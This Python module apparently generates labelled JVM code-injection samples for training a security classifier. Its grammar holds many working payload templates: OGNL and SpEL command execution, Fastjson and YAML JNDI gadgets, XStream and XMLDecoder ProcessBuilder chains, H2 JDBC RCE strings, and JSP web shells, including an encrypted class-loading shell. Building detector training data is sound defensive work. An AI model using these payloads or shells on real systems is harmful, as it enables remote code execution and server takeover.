"""Code injection for the JVM: OGNL, SpEL, EL, Groovy, gadgets of JSON, XML, YAML and streams."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import percent, pretty_xml
from securitai.train.corpora.kinds import (
    BODY,
    COOKIE,
    FILE,
    HEADER,
    NAME,
    PATH,
    VALUE,
    AttackKind,
)
from securitai.verdict import Category

_STREAMS = (
    "java.util.HashMap", "java.util.PriorityQueue", "java.util.HashSet", "java.util.ArrayList",
    "java.util.LinkedHashSet", "sun.reflect.annotation.AnnotationInvocationHandler",
    "javax.management.BadAttributeValueExpException", "java.util.Hashtable", "java.net.URL",
    "org.apache.commons.collections.functors.InvokerTransformer", "java.rmi.MarshalledObject",
    "org.apache.commons.beanutils.BeanComparator", "com.sun.rowset.JdbcRowSetImpl",
)  # fmt: skip


def _stream(rng: Random) -> bytes:
    name = _STREAMS[int(rng.random() * len(_STREAMS))].encode()
    body = b"\xac\xed\x00\x05sr\x00" + bytes([len(name)]) + name
    return (
        body
        + rng.randbytes(8)
        + b"\x03\x00\x01F\x00\nloadFactorxp"
        + rng.randbytes(10 + int(rng.random() * 90))
    )


def stream64(rng: Random) -> str:
    """A serialised Java object in base64: it begins with ``rO0AB``."""
    text = b64encode(_stream(rng)).decode()
    return text[: 4 * (6 + int(rng.random() * 12))] if rng.random() < 0.15 else text


def stream_hex(rng: Random) -> str:
    """A serialised Java object in hex: it begins with ``aced0005``."""
    return _stream(rng).hex()


def stream_latin(rng: Random) -> str:
    """A serialised Java object, each byte one character."""
    return _stream(rng).decode("latin-1")


def url_written(rng: Random, text: str) -> str:
    """Some payloads travel percent-encoded, as in exploit scripts."""
    return percent(text) if rng.random() < 0.08 else text


_G = Grammar(
    r"""
run:
  @java.lang.Runtime@getRuntime().exec('‹cmd›')
  new java.lang.ProcessBuilder(new java.lang.String[]{'/bin/sh','-c','‹ucmd›'}).start()
  new java.lang.ProcessBuilder({'‹sh¦bash¦/bin/bash›','-c','‹ucmd›'}).start()
  new ProcessBuilder("‹cmd.exe¦bash¦sh›","‹/c¦-c›","‹cmd›").start()
  Runtime.getRuntime().exec("‹cmd›")
  java.lang.Runtime.getRuntime().exec("‹cmd›")
  "".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass()).invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),"‹cmd›")
  ''.class.forName('java.lang.Runtime').getDeclaredMethods()[‹#1-20›].invoke(''.class.forName('java.lang.Runtime'),'‹cmd›')
  ''['class'].forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('‹cmd›')
  Class.forName("java.lang.Runtime").getRuntime().exec("‹cmd›").waitFor()
  java.lang.Runtime.runtime.exec('‹cmd›').text
  [].getClass().forName('java.lang.Runtime')
  new javax.script.ScriptEngineManager().getEngineByName("‹js¦nashorn¦JavaScript›").eval("‹jseval›")
  java.lang.System.getProperty('user.dir')
  @java.lang.System@getenv()
  @java.lang.Thread@sleep(‹#1000-20000›)
  Thread.sleep(‹#1000-20000›)
  new java.net.URL("‹url›").openStream()
  new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("‹url›")}).loadClass("‹az›").newInstance()
  new java.util.Scanner(new java.io.File("‹u_file›")).useDelimiter("\\A").next()
  java.net.InetAddress.getByName('‹host›')
  org.apache.commons.io.IOUtils.toString(@java.lang.Runtime@getRuntime().exec("‹cmd›").getInputStream())
  javax.naming.InitialContext.doLookup("‹jndi›")
jseval:
  java.lang.Runtime.getRuntime().exec('‹ucmd›')
  var p=new java.lang.ProcessBuilder['(java.lang.String[])'](['/bin/sh','-c','‹ucmd›']).start()
  load('‹url›')
jndi:
  ldap://‹hostport›/‹az›
  rmi://‹hostport›/‹Exploit¦Object¦obj¦az›
  ldaps://‹host›/‹az›
  dns://‹host›/‹az›
  iiop://‹host›/‹az›
ognl:
  4×%{‹run›}
  4×${‹run›}
  #{‹run›}
  ‹az›=${‹run›}
  %{#a=(‹run›)}
  %{(#‹x=az›=‹run›).(#‹$x›)}
  %{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#cmd='‹cmd›').(#p=new java.lang.ProcessBuilder(#cmd)).(#process=#p.start())}
  %{(#‹az›='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='‹cmd›').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.start())}
  %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('‹az›',‹n›*‹n›)}.multipart/form-data
  ${#_memberAccess["allowStaticMethodAccess"]=true,#a=‹run›,#b=#a.getInputStream(),@org.apache.struts2.ServletActionContext@getResponse().getWriter().println(#b)}
  redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'‹ucmd0›'})).start(),#b=#a.getInputStream()}
  redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest'),#req.getRealPath("/")}
  redirectAction:%{‹n›*‹n›}
  action:%{‹run›}
  method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,‹run›
  ('\43_memberAccess.allowStaticMethodAccess')(‹c›)=true&(‹c›)(('\43‹az›.exec("‹cmd›")')(‹c›))
  (#_memberAccess['allowPrivateAccess']=true,#_memberAccess['allowStaticMethodAccess']=true,‹run›)
  \u0023_memberAccess[\"allowStaticMethodAccess\"]=true
  \u0027+{Class.forName(\u0027javax.script.ScriptEngineManager\u0027).newInstance().getEngineByName(\u0027JavaScript\u0027).\u0065val(\u0027‹jseval›\u0027)}+\u0027
  aaa\u0027+{‹n›*‹n›}+\u0027bbb
  queryString=\u0027%2b{‹n›*‹n›}%2b\u0027
  (#attr["struts.valueStack"]).context.setMemberAccess(#dm)
  %{(#instancemanager=#application["org.apache.tomcat.InstanceManager"]).(#stack=#attr["com.opensymphony.xwork2.util.ValueStack.ValueStack"]).(#bean=#instancemanager.newInstance("org.apache.commons.collections.BeanMap")).(#bean.setBean(#stack))}
  ${@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("‹az›",‹run›)}
  ${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("‹cmd›").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}
  ${Class.forName("com.opensymphony.webwork.ServletActionContext").getMethod("getResponse",null).invoke(null,null).setHeader("‹az›",Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("nashorn").eval("‹jseval›"))}
  label=\u0027%2b#request\u005b\u0027.KEY_velocity.struts2.context\u0027\u005d.internalGet(\u0027ognl\u0027).findValue(#parameters.‹az›,{})%2b\u0027
  class.module.classLoader.resources.context.parent.pipeline.first.‹pattern=%{c2}i if("j".equals(request.getParameter("pwd")))¦suffix=.jsp¦directory=webapps/ROOT¦prefix=shell¦fileDateFormat=›
  class.classLoader.URLs[0]=jar:‹url›!/
  @ognl.OgnlContext@DEFAULT_MEMBER_ACCESS
  debug=command&expression=‹run›
  name=%{#_memberAccess}&‹az›=‹n›
spel:
  4×${‹typ›}
  3×#{‹typ›}
  2×*{‹typ›}
  2×‹typ›
  ‹az›[‹typ›]
  __${‹typ›}__::.x
  __${‹run›}__::
  ${‹run›}
  #{‹run›}
  %{‹run›}
  ‹az›[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("‹cmd›")]
  {"op":"replace","path":"‹typ›.x","value":"‹az›"}
  username[‹typ›]=&password=
  #{"".getClass().forName("java.lang.Runtime")}
  ${T (java.lang.Runtime).getRuntime().exec("‹cmd›")}
  T(\u006aava.lang.Runtime).getRuntime().exec("‹cmd›")
  $\c{‹run›}
  $\A{‹#1000-9999›*‹#1000-9999›}
  $\{‹run›\}
  ${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval("‹jseval›")}
  ${pageContext.request.getSession().setAttribute("a",‹run›)}
  ${facesContext.getExternalContext().redirect("‹url›")}
  ${request.setAttribute("‹c›","".getClass().forName("java.util.ArrayList").newInstance())}
  #{session.setAttribute("rtc","".getClass().forName("java.lang.Runtime").getDeclaredConstructors()[0])}
  ${expressionFactory.createValueExpression(‹n›)}
  ${param.getClass()}
  ${applicationScope}
  javax.faces.ViewState=‹s64›
  {"name":"hello","code":"‹run›"}
  {"routingFunction":"‹typ›"}
  {"id":"‹az›","filters":[{"name":"AddResponseHeader","args":{"name":"‹az›","value":"#{‹typ›}"}}],"uri":"‹url›"}
  #{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec("‹ucmd0›").getInputStream()))}
typ:
  T(java.lang.Runtime).getRuntime().exec('‹cmd›')
  T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(‹#65-122›).concat(T(java.lang.Character).toString(‹#65-122›)))
  T(java.lang.Runtime).getRuntime().exec(new String[]{"/bin/sh","-c","‹ucmd›"})
  T(java.lang.System).getenv()
  T(java.lang.Thread).sleep(‹#1000-20000›)
  T(java.lang.Math).random()
  T(java.net.InetAddress).getByName('‹host›')
  T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('‹cmd›').getInputStream())
  T(org.springframework.cglib.core.ReflectUtils).defineClass('‹az›',T(org.springframework.util.Base64Utils).decodeFromString('yv66vg‹b64›'),new javax.management.loading.MLet(new java.net.URL[0],T(java.lang.Thread).currentThread().getContextClassLoader()))
  T(javax.script.ScriptEngineManager).newInstance()
  T(String).getClass().forName("java.lang.Runtime")
  new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('‹cmd›').getInputStream()).next()
  T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('‹u_file›'))
groovy:
  "‹ucmd›".execute().text
  println "‹ucmd›".execute().text
  ['sh','-c','‹ucmd›'].execute().text
  new ProcessBuilder('‹sh¦bash›','-c','‹ucmd›').redirectErrorStream(true).start().text
  def x="‹cmd›".execute();println(x.text)
  @groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("‹cmd›")}) def x
  @GrabConfig(disableChecksums=true)‹nl›@GrabResolver(name='‹az›',root='‹url›')‹nl›@Grab(group='‹az›',module='‹az›',version='1')‹nl›import ‹Az›;
  public class x {public x(){"‹ucmd›".execute()}}
  Jenkins.instance.pluginManager
  throw new Exception('‹ucmd›'.execute().text);
  import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec("‹ucmd›").getInputStream()).useDelimiter("\\A").next();
  java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("‹cmd›").getText()
  {"size":1,"script_fields":{"‹az›":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"‹ucmd0›\").getText()","lang":"groovy"}}}
  {"script_fields":{"‹az›":{"script":"import java.util.*;import java.io.*;new Scanner(new File(\"‹u_file›\")).useDelimiter(\"\\\\Z\").next();"}}}
  {"config":{"className":"‹az›","script":"function sink(){java.lang.Runtime.getRuntime().exec('‹ucmd0›')}"}}
  var s=[3];s[0]="/bin/bash";s[1]="-c";s[2]="‹ucmd›";java.lang.Runtime.getRuntime().exec(s);
  function(value){return java.lang.Runtime.getRuntime().exec("‹ucmd0›")}
  {"function":{"type":"javascript","name":"‹az›","function":"function(a){new java.util.Scanner(java.lang.Runtime.getRuntime().exec([\"sh\",\"-c\",\"‹ucmd0›\"]).getInputStream())}"}}
  print("‹rnd›");importPackage(java.lang);Runtime.getRuntime().exec("‹cmd›")
  printf('‹#1000-9999›%‹#1000-9999›');
  out.println(‹n›*‹n›);
  \u0020\u0062\u006f\u006f\u006c\u0065\u0061\u006e Runtime.getRuntime().exec("‹ucmd0›")
gadget = com.sun.rowset.JdbcRowSetImpl¦org.apache.ibatis.datasource.jndi.JndiDataSourceFactory¦com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl¦org.apache.commons.dbcp.BasicDataSource¦org.springframework.context.support.ClassPathXmlApplicationContext¦br.com.anteros.dbcp.AnterosDBCPConfig¦com.zaxxer.hikari.HikariConfig¦org.apache.shiro.jndi.JndiObjectFactory¦ch.qos.logback.core.db.DriverManagerConnectionSource¦java.net.Inet4Address¦java.net.URL¦java.lang.Class¦javax.swing.JEditorPane¦org.apache.xbean.propertyeditor.JndiConverter¦com.mchange.v2.c3p0.JndiRefForwardingDataSource¦org.apache.tomcat.dbcp.dbcp2.BasicDataSource¦oracle.jms.AQjmsQueueConnectionFactory¦com.caucho.config.types.ResourceRef¦java.lang.AutoCloseable¦org.h2.jdbcx.JdbcDataSource
json:
  3×{"@type":"‹gadget›","dataSourceName":"‹jndi›","autoCommit":true}
  2×{"@type":"‹gadget›","val":"‹host›"}
  {"a":{"@type":"java.lang.Class","val":"‹gadget›"},"b":{"@type":"‹gadget›","dataSourceName":"‹jndi›","autoCommit":true}}
  {"@type":"L‹gadget›;","dataSourceName":"‹jndi›","autoCommit":true}
  {"@type":"LL‹gadget›;;","dataSourceName":"‹jndi›"}
  {"@type":"[‹gadget›"[{,"dataSourceName":"‹jndi›"}]}
  {"\u0040\u0074\u0079\u0070\u0065":"‹gadget›","dataSourceName":"‹jndi›"}
  {"\x40type":"‹gadget›","dataSourceName":"‹jndi›"}
  {"@type":"‹gadget›","_bytecodes":["‹b64›"],"_name":"‹az›","_tfactory":{},"_outputProperties":{}}
  {"@type":"java.net.InetSocketAddress"{"address":,"val":"‹host›"}}
  {{"@type":"java.net.URL","val":"‹url›"}:"‹c›"}
  {"@type":"‹gadget›","properties":{"data_source":"‹jndi›"}}
  {"@type":"java.lang.AutoCloseable","@type":"‹az›.‹Az›","cmd":"‹ucmd0›"}
  ["‹gadget›",{"dataSourceName":"‹jndi›","autoCommit":true}]
  ["‹gadget›","‹url›"]
  {"@class":"‹gadget›","dataSourceName":"‹jndi›"}
  {"type":"read","mbean":"java.lang:type=Memory","target":{"url":"service:jmx:rmi:///jndi/‹jndi›"}}
  {"set-property":{"‹az›":"service:jmx:rmi:///jndi/‹jndi›"}}
  {"set-property":{"requestDispatcher.requestParsers.enableRemoteStreaming":true}}
  {"update-queryresponsewriter":{"startup":"lazy","name":"velocity","class":"solr.VelocityResponseWriter","params.resource.loader.enabled":"true"}}
  {"add-listener":{"event":"postCommit","name":"‹az›","class":"solr.RunExecutableListener","exe":"sh","dir":"/bin/","args":["-c","‹ucmd0›"]}}
  {"driver":"org.h2.Driver","url":"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '‹url›'"}
  jdbc:h2:mem:‹az›;MODE=MSSQLServer;INIT=CREATE ALIAS EXEC AS $$void e(String c){Runtime.getRuntime().exec(c);}$$
  jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM '‹url›'
  jdbc:mysql://‹hostport›/‹az›?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor
  jdbc:postgresql://‹host›/?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=‹url›
  jdbc:derby:memory:‹az›;create=true;traceFile=‹az›
  {"spring.datasource.hikari.connection-test-query":"CREATE ALIAS EXEC AS CONCAT('String e(String c) ','Runtime.getRuntime().exec(c)')"}
  spring.cloud.bootstrap.location=‹url›/‹az›.yml
  eureka.client.serviceUrl.defaultZone=‹url›/xstream
  logging.config=‹url›/logback.xml
  {"method":"POST","url":"bypass","params":{"connector.class":"‹az›","producer.override.sasl.jaas.config":"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"‹jndi›\";"}}
yaml:
  !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["‹url›"]]]]
  !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: '‹jndi›', autoCommit: true}
  !!org.springframework.context.support.ClassPathXmlApplicationContext ["‹url›"]
  ‹az›: !!‹gadget› {dataSourceName: "‹jndi›", autoCommit: true}
  !!java.net.URL ["‹url›"]
  !!sun.rmi.server.UnicastRef ["‹az›"]
  !!python/object/apply:os.system ["‹ucmd0›"]
  !!python/object/apply:subprocess.Popen [[‹ucmd0›]]
  !!python/object/new:type {args: ["z", !!python/tuple [], {"extend": !!python/name:exec }], listitems: "__import__('os').system('‹ucmd0›')"}
  !!python/module:‹az›
  --- !ruby/object:Gem::Installer‹nl›    i: x‹nl›--- !ruby/object:Gem::SpecFetcher
  !!js/function >‹nl›  (function(){require('child_process').exec('‹ucmd0›')})();
  --- !ruby/hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection‹nl›? ! '‹az›; `‹ucmd0›` #'‹nl›: !ruby/struct
xmlhead:
  ‹e›
  <?xml version="1.0" encoding="UTF-8"?>
  <?xml version="1.0"?>‹nl›
xml:
  ‹xmlhead›<java version="1.‹#4-8›.0_‹#10-99›" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/‹bash¦sh›</string></void><void index="1"><string>-c</string></void><void index="2"><string>‹ucmd›</string></void></array><void method="start"/></void></java>
  <object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>‹cmd›</string></void></object>
  <void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>‹ucmd0›</string></void></array></void>
  <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="2"><string>‹cmd›</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>
  <work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><class><string>org.springframework.context.support.‹FileSystem¦ClassPath›XmlApplicationContext</string><void><string>‹url›</string></void></class></java></work:WorkContext>
  ‹xmlhead›<sorted-set><string>‹az›</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>‹ucmd0›</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
  ‹xmlhead›<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><next class="java.lang.ProcessBuilder"><command><string>‹ucmd0›</string></command></next></iter></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>
  <map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string><org.codehaus.groovy.runtime.MethodClosure><delegate class="groovy.util.Expando"/><owner class="java.lang.ProcessBuilder"><command><string>‹ucmd0›</string></command></owner><method>start</method></org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties></groovy.util.Expando><int>1</int></entry></map>
  <java.util.PriorityQueue serialization="custom"><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default><int>3</int><javax.naming.ldap.Rdn_-RdnEntry><type>‹n›</type><value class="com.sun.org.apache.xpath.internal.objects.XString"><m__obj class="string">‹jndi›</m__obj></value></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue></java.util.PriorityQueue>
  <linked-hash-set><jdk.nashorn.internal.objects.NativeString><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"/></jdk.nashorn.internal.objects.NativeString></linked-hash-set>
  <javax.imageio.ImageIO_-ContainsFilter><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>‹az›</name></javax.imageio.ImageIO_-ContainsFilter>
  <dynamic-proxy><interface>java.util.List</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"/></handler></dynamic-proxy>
  <com.sun.rowset.JdbcRowSetImpl><dataSource>‹jndi›</dataSource></com.sun.rowset.JdbcRowSetImpl>
  <beans xmlns="http://www.springframework.org/schema/beans"><bean id="‹az›" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>bash</value><value>-c</value><value><![CDATA[‹ucmd›]]></value></list></constructor-arg></bean></beans>
  <?xml version="1.0"?><methodCall><methodName>‹az›</methodName><params><param><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">‹s64›</serializable></value></param></params></methodCall>
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable name="r" select="rt:getRuntime()"/><xsl:value-of select="rt:exec($r,'‹ucmd0›')"/></xsl:template></xsl:stylesheet>
  <xsl:value-of select="php:function('‹system¦shell_exec¦assert›','‹ucmd0›')" xmlns:php="http://php.net/xsl"/>
  <msxsl:script language="C#" implements-prefix="user"><![CDATA[public string xml(){System.Diagnostics.Process.Start("cmd.exe","/c ‹wcmd0›");return "";}]]></msxsl:script>
  <dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(){java.lang.Runtime.getRuntime().exec("‹ucmd0›");}]]></script><document><entity name="‹az›" url="‹url›" processor="XPathEntityProcessor" forEach="/‹az›" transformer="script:poc"/></document></dataConfig>
  <asx:abap version="1.0"><asx:values><‹az›>‹jndi›</‹az›></asx:values></asx:abap>
  <root><ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="‹az›" ObjectType="{x:Type Diag:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><System:String>cmd</System:String><System:String>/c ‹wcmd0›</System:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary></root>
  <ac:parameter ac:name="script">"‹ucmd0›".execute().text</ac:parameter>
  {{groovy}}println("‹ucmd0›".execute().text){{/groovy}}
  }}}{{async async=false}}{{groovy}}println("‹rnd›"+"‹ucmd0›".execute().text){{/groovy}}{{/async}}
  {{velocity}}$doc.getClass().forName('java.lang.Runtime'){{/velocity}}
stream:
  3×‹s64›
  2×‹shex›
  2×‹slatin›
  yv66vg‹b64›
  $$BCEL$$$l$8b$I$A$‹rnd32›
  ‹az›=‹s64›
  _$$$‹s64›
rawcode:
  ‹run›
  ‹run›;
  '+‹run›+'
  "+‹run›+"
  ';‹run›;//
  ‹pre›;‹run›
jsp:
  <%‹run›;%>
  <%= ‹run› %>
  <% out.println(‹n›*‹n›); %>
  <%Runtime.getRuntime().exec(request.getParameter("‹az›"));%>
  <%@ page import="java.util.*,java.io.*"%><%‹nl›Process p=Runtime.getRuntime().exec(request.getParameter("‹az›"));‹nl›InputStream in=p.getInputStream();‹nl›int a=-1;byte[] b=new byte[2048];‹nl›while((a=in.read(b))!=-1){out.println(new String(b));}‹nl›%>
  <%out.print(‹#10000-99999›*‹#10000-99999›);new java.io.File(application.getRealPath(request.getServletPath())).delete();%>
  <%out.println("‹rnd›");%>
  <%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if(request.getMethod().equals("POST")){String k="‹hexrun›";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>
  <%if("‹rnd›".equals(request.getParameter("pwd"))){java.io.InputStream in=Runtime.getRuntime().exec(request.getParameter("i")).getInputStream();int a=-1;byte[] b=new byte[2048];out.print("<pre>");while((a=in.read(b))!=-1){out.println(new String(b));}out.print("</pre>");}%>
  <jsp:scriptlet>‹run›;</jsp:scriptlet>
  <jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet><![CDATA[‹run›;]]></jsp:scriptlet></jsp:root>
  ${"".getClass().forName("java.lang.Runtime").getRuntime().exec(param.‹az›)}
  <%new java.io.FileOutputStream(application.getRealPath("/")+request.getParameter("f")).write(request.getParameter("c").getBytes());%>
  <%@ include file="‹u_file›"%>
  <#assign v="freemarker.template.utility.Execute"?new()>${v("‹ucmd0›")}
""",
    PARTS,
    {"s64": stream64, "shex": stream_hex, "slatin": stream_latin},
)
JSP = _G.maker("jsp")

_SOME = (VALUE, COOKIE, HEADER)
_BODIES = (VALUE, BODY)
KINDS = (
    AttackKind(
        "code.ognl",
        Category.CODE_INJECTION,
        _G.maker("ognl", url_written),
        4.0,
        (*_SOME, NAME, PATH),
    ),
    AttackKind(
        "code.spel",
        Category.CODE_INJECTION,
        _G.maker("spel", url_written),
        3.0,
        (*_SOME, NAME, PATH),
    ),
    AttackKind("code.groovy", Category.CODE_INJECTION, _G.maker("groovy"), 2.0),
    AttackKind("code.java_call", Category.CODE_INJECTION, _G.maker("rawcode"), 1.5, _SOME),
    AttackKind("code.java_json", Category.CODE_INJECTION, _G.maker("json"), 3.0, _BODIES),
    AttackKind("code.yaml", Category.CODE_INJECTION, _G.maker("yaml"), 1.5, _BODIES),
    AttackKind(
        "code.xml_gadget", Category.CODE_INJECTION, _G.maker("xml", pretty_xml), 4.0, _BODIES
    ),
    AttackKind("code.java_stream", Category.CODE_INJECTION, _G.maker("stream"), 2.0, _SOME),
    AttackKind("code.jsp", Category.CODE_INJECTION, JSP, 1.0, _BODIES),
    AttackKind("upload.jsp", Category.FILE_UPLOAD, JSP, 2.0, (FILE,)),
)
